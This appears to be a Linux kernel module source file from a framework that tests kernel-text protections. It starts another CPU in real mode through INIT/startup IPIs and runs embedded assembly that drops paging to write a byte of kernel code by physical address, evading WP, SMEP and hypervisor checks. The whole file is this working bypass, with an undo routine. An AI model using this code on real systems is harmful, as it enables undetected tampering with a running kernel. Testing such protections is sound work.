// SPDX-License-Identifier: GPL-2.0-only
/*
 * INIT and a start-up interrupt to another CPU, which then begins in real mode with no page
 * tables of the kernel: code of the attacker switches to protected mode without paging, where
 * neither WP nor page tables nor SMEP exist, and writes a byte of kernel text by its physical
 * address.
 */
#include <linux/delay.h>
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/slab.h>
#include <linux/smp.h>
#include <asm/apic.h>
#include <asm/io.h>
#include <asm/realmode.h>

#include "attack.h"
#include "memory.h"
#include "resume.h"

/* Linux keeps the first MiB for firmware and its own start-up code: this page nobody uses. */
#define START_PA   0x8000
#define START_PAGE (START_PA >> PAGE_SHIFT)

enum {
	STATE_NOT_RUN,
	STATE_RAN,
	STATE_WROTE,
	STATE_FAULT
};

/* What the code below has at its end. */
struct startup_args {
	u32 target; /* physical address */
	u32 byte;
	u32 state;
};

extern const u8 startup_begin[], startup_end[];

asm(".pushsection .rodata\n"
    "	.balign 8\n"
    "startup_begin:\n"
    "	.code16\n"
    "	cli\n"
    "	mov %cs, %ax\n"
    "	mov %ax, %ds\n"
    "	lgdtl startup_gdtr - startup_begin\n"
    "	lidtl startup_idtr - startup_begin\n"
    "	mov %cr0, %eax\n"
    "	or $1, %eax\n"
    "	mov %eax, %cr0\n"
    "	ljmpl $8, $0x8000 + startup_32 - startup_begin\n"
    "	.code32\n"
    "startup_32:\n"
    "	mov $16, %ax\n"
    "	mov %ax, %ds\n"
    "	mov %ax, %ss\n"
    "	mov $0x9000, %esp\n"
    "	mov $0x8000 + startup_args - startup_begin, %ebx\n"
    "	movl $1, 8(%ebx)\n" /* STATE_RAN */
    "	mov 0(%ebx), %edi\n"
    "	mov 4(%ebx), %al\n"
    "	mov %al, (%edi)\n"
    "	movl $2, 8(%ebx)\n" /* STATE_WROTE */
    "1:	hlt\n"
    "	jmp 1b\n"
    "startup_fault:\n"
    "	mov $0x8000 + startup_args - startup_begin, %ebx\n"
    "	movl $3, 8(%ebx)\n" /* STATE_FAULT */
    "2:	hlt\n"
    "	jmp 2b\n"
    "	.code64\n"
    "	.balign 8\n"
    "startup_gdt:\n"
    "	.quad 0, 0x00cf9b000000ffff, 0x00cf93000000ffff\n"
    "startup_idt:\n"
    "	.rept 32\n"
    "	.word 0x8000 + startup_fault - startup_begin, 8, 0x8e00, 0\n"
    "	.endr\n"
    "startup_gdtr:\n"
    "	.word 23\n"
    "	.long 0x8000 + startup_gdt - startup_begin\n"
    "startup_idtr:\n"
    "	.word 255\n"
    "	.long 0x8000 + startup_idt - startup_begin\n"
    "	.balign 4\n"
    "startup_args:\n"
    "	.long 0, 0, 0\n"
    "startup_end:\n"
    ".popsection\n");

static u32 start_and_wait(struct attempt *t, u8 *page, unsigned int cpu, u8 byte)
{
	size_t size = startup_end - startup_begin;
	struct startup_args *args = (void *)(page + size - sizeof(*args));
	int left = 500; /* 10 s: emulated CPUs of a busy machine may take seconds */

	memcpy(page, startup_begin, size);
	args->target = ((u64)t->pfn << PAGE_SHIFT) + offset_in_page(t->va);
	args->byte = byte;
	resume_send_startup(cpu, START_PAGE);
	while (READ_ONCE(args->state) < STATE_WROTE && left--)
		mdelay(20);
	return READ_ONCE(args->state);
}

static int startup_poke(struct attempt *t, u8 byte)
{
	static const char *const states[] = { "code did not run", "code ran", "code wrote",
					      "code faulted" };
	unsigned int victim = cpumask_last(cpu_online_mask);
	u8 *saved = kmemdup(__va(START_PA), PAGE_SIZE, GFP_KERNEL);
	u32 state;
	int err = saved ? resume_hold(victim) : -ENOMEM;

	if (err)
		goto free;
	state = start_and_wait(t, __va(START_PA), victim, byte);
	err = resume_return(state != STATE_NOT_RUN);
	attack_note(t, "CPU %u: %s, back in service: %d", victim,
		    state < ARRAY_SIZE(states) ? states[state] : "?", err);
	memcpy(__va(START_PA), saved, PAGE_SIZE);
	err = state == STATE_WROTE ? 0 : -EPERM;
free:
	kfree(saved);
	return err;
}

static enum attack_outcome startup(struct attempt *t)
{
	struct real_mode_header **header = attack_symbol("real_mode_header");

	if (memory_target_text(t))
		return ATTACK_ERROR;
	if (num_online_cpus() == 1 || !header ||
	    virt_to_phys(*header) >> PAGE_SHIFT == START_PAGE) {
		attack_note(t, "no other CPU, or no room below 1 MiB");
		return ATTACK_ERROR;
	}
	return startup_poke(t, t->wanted) ? ATTACK_REFUSED : ATTACK_SUCCEEDED;
}

static int startup_undo(struct attempt *t)
{
	return startup_poke(t, t->was);
}

static const struct attack startup_attacks[] = {
	{
		.name = "init-ipi",
		.title = "start another CPU in real mode and write text without paging",
		.gives = "a CPU that nobody watches",
		.asset = "processor start",
		.control = ATTACK_BARE,
		.reason = "emulated CPUs do not report INIT to the hypervisor: only stops on "
			  "silicon",
		.own_vm = true,
		.cpus = 2,
		.run = startup,
		.look = memory_look,
		.undo = startup_undo,
	},
};

const struct attack_table startup_table = { startup_attacks, ARRAY_SIZE(startup_attacks) };
